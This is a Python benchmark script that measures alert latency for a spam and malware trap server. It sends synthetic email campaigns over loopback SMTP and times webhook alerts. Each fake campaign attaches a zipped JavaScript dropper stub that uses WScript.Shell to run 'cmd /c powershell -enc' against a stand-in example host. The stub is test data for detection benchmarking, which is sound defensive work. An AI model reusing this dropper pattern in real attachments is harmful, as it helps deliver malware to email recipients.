#!/usr/bin/env python3
"""Time to alert, end to end over SMTP, in all-in-one mode (`spamhattan serve`).

Starts `serve` on a scratch data dir with one webhook receiver (tests/e2e/receivers.py, signature
checked with Python's hmac), then sends N new malware campaigns, each of two messages (the
shipped rule `new-malware-campaign` fires at the second). Latency = from the moment the client
starts sending the second message (its arrival cannot be earlier) to the moment the webhook
receiver has the alert. Optional background load: unrelated spam from other threads at a fixed
rate, so the analysis pool is busy while the campaigns arrive.

    python3 bench/alert_latency.py --bin target/release/spamhattan --campaigns 100 \\
        --interval 0.2 --background 100

Prints p50/p90/p99/max and exits 1 when an alert is missing or p99 exceeds --max-p99.
Loopback only; bounded in count and time.
"""

import argparse
import base64
import hashlib
import io
import json
import os
import random
import smtplib
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from email.message import EmailMessage
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests" / "e2e"))
from receivers import WebhookReceiver  # noqa: E402

SECRET = "whsec_" + base64.b64encode(b"alert-latency-benchmark-secret!!").decode()
RULE = "new-malware-campaign"
WORDS = ("account invoice payment order shipment delivery contract statement balance refund "
         "document transfer notice overdue reminder receipt claim policy tax salary bonus "
         "meeting report budget update review approval request urgent final copy scan").split()


def campaign_message(c, n, rng):
    """Message n of campaign c: the campaign's own template (words, domain, payload name),
    with per-recipient numbers and payload bytes, so every campaign is new to the clusterer
    and its messages belong together."""
    crng = random.Random(c)
    words = [crng.choice(WORDS) for _ in range(4)]
    topic = " ".join(words)
    template = " ".join(crng.choice(WORDS) for _ in range(60))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        # Each campaign's dropper is its own code (its own key blob), so payloads of different
        # campaigns are not near-duplicates; inside a campaign only the URL token varies.
        key = "".join(crng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(400))
        z.writestr(f"{words[0]}_{c}_{n}.js",
                   f"var k{c} = '{key}';\n"
                   "var s = new ActiveXObject('WScript.Shell');\n"
                   f"var u = 'http://cdn{c}.bench-{c}.example/{words[1]}/{rng.randint(0, 10**9)}';\n"
                   "s.Run('cmd /c powershell -enc ' + u);\n")
    m = EmailMessage()
    m["From"] = f"{words[2]}{n}@sender{c}.example"
    m["To"] = f"user{n}@trap.example"
    m["Subject"] = f"{topic} {rng.randint(1000, 9999)}"
    m["Message-ID"] = f"<{c}.{n}.{rng.random()}@sender{c}.example>"
    m.set_content(f"Dear user{n},\n\n{topic}. {template}\n\nReference {rng.randint(10**5, 10**6)}.\n")
    m.add_attachment(buf.getvalue(), maintype="application", subtype="zip",
                     filename=f"{words[0]}_{c}.zip")
    return m.as_bytes().replace(b"\n", b"\r\n")


def noise_message(rng):
    m = EmailMessage()
    m["From"] = f"news{rng.randint(0, 10**6)}@list{rng.randint(0, 10**6)}.example"
    m["To"] = "user@trap.example"
    m["Subject"] = " ".join(rng.choice(WORDS) for _ in range(5))
    m.set_content(" ".join(rng.choice(WORDS) + str(rng.randint(0, 10**6)) for _ in range(120)))
    return m.as_bytes().replace(b"\n", b"\r\n")


def send(port, raw):
    with smtplib.SMTP("127.0.0.1", port, timeout=30) as s:
        s.sendmail("bounce@src.example", ["user@trap.example"], raw)


def background(port, rate, stop, sent):
    rng = random.Random(threading.get_ident())
    interval = 1.0 / rate
    next_at = time.monotonic()
    with smtplib.SMTP("127.0.0.1", port, timeout=30) as s:
        while not stop.is_set():
            s.sendmail("bounce@src.example", ["user@trap.example"], noise_message(rng))
            sent[0] += 1
            next_at += interval
            delay = next_at - time.monotonic()
            if delay > 0:
                stop.wait(delay)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", required=True)
    ap.add_argument("--campaigns", type=int, default=100)
    ap.add_argument("--interval", type=float, default=0.2, help="seconds between campaigns")
    ap.add_argument("--background", type=float, default=0.0, help="noise messages per second")
    ap.add_argument("--max-p99", type=float, default=2.0)
    ap.add_argument("--timeout", type=float, default=120.0)
    ap.add_argument("--keep", help="use and keep this (new) directory for the data and log")
    args = ap.parse_args()
    if args.campaigns > 10_000 or args.background > 5_000:
        sys.exit("bounded: at most 10,000 campaigns and 5,000 background messages/s")

    rng = random.Random(1)
    scratch = tempfile.TemporaryDirectory()
    if args.keep:
        os.makedirs(args.keep)
    with scratch as tmp, WebhookReceiver(SECRET) as hook:
        tmp = args.keep or tmp
        cfg = Path(tmp) / "c.toml"
        cfg.write_text(
            "[analysis.auth]\nenabled = false\n"
            f'[[alerts.webhook]]\nname = "bench"\nurl = "{hook.url}"\nsecret = "{SECRET}"\n'
            'min_severity = "high"\nmax_per_minute = 10000\n')
        proc = subprocess.Popen(
            [args.bin, "serve", "--config", str(cfg), "--data-dir", f"{tmp}/data",
             "--trap-domain", "trap.example", "--smtp-listen", "127.0.0.1:0",
             "--hostname", "mx.bench.example"],
            stdout=subprocess.PIPE, stderr=open(f"{tmp}/stderr.log", "wb"))
        try:
            ready = json.loads(proc.stdout.readline())
            port = int(ready["listeners"][0]["address"].rpartition(":")[2])
            stop = threading.Event()
            sent_noise = [0]
            # One connection sends about 150 messages/s from Python: spread the rate over
            # enough connections (each paced) to reach it.
            senders = []
            if args.background > 0:
                n = max(1, int(-(-args.background // 150)))
                for _ in range(n):
                    t = threading.Thread(target=background,
                                         args=(port, args.background / n, stop, sent_noise),
                                         daemon=True)
                    t.start()
                    senders.append(t)
            # sha256 of each campaign message -> monotonic send start. The rule fires on the
            # campaign's second message *as clustered*: with several analysis threads that can
            # be either one, and the alert's evidence names it.
            started = {}
            for c in range(args.campaigns):
                for n in range(2):
                    raw = campaign_message(c, n, rng)
                    started[hashlib.sha256(raw).hexdigest()] = time.monotonic()
                    send(port, raw)
                time.sleep(args.interval)  # pacing of the load generator, not a wait for a result
            expected = args.campaigns
            deadline = time.monotonic() + args.timeout
            latencies = {}
            seen = 0
            while len(latencies) < expected and time.monotonic() < deadline:
                records = hook.wait_for(seen + 1, max(0.0, deadline - time.monotonic()))
                for r in records[seen:]:
                    data = (r.body or {}).get("data", {})
                    if data.get("rule") != RULE or not r.valid:
                        continue
                    for e in data.get("evidence", []):
                        t0 = started.get(e.get("message"))
                        if t0 is not None:
                            latencies.setdefault(e["message"], r.received_monotonic - t0)
                seen = len(records)
            stop.set()
            for t in senders:
                t.join(timeout=10)
        finally:
            proc.terminate()
            proc.wait(timeout=60)
        missing = expected - len(latencies)
        values = sorted(latencies.values())
        if not values:
            sys.exit("no alert arrived; see the server's stderr")
        q = statistics.quantiles(values, n=100, method="inclusive") if len(values) > 1 else values * 99
        print(f"campaigns {args.campaigns}, background {args.background}/s "
              f"({sent_noise[0]} noise messages sent), alerts {len(values)}, missing {missing}")
        print(f"time to alert: p50 {q[49]:.3f} s, p90 {q[89]:.3f} s, p99 {q[98]:.3f} s, "
              f"max {values[-1]:.3f} s")
        if missing or q[98] > args.max_p99:
            sys.exit(1)


if __name__ == "__main__":
    main()
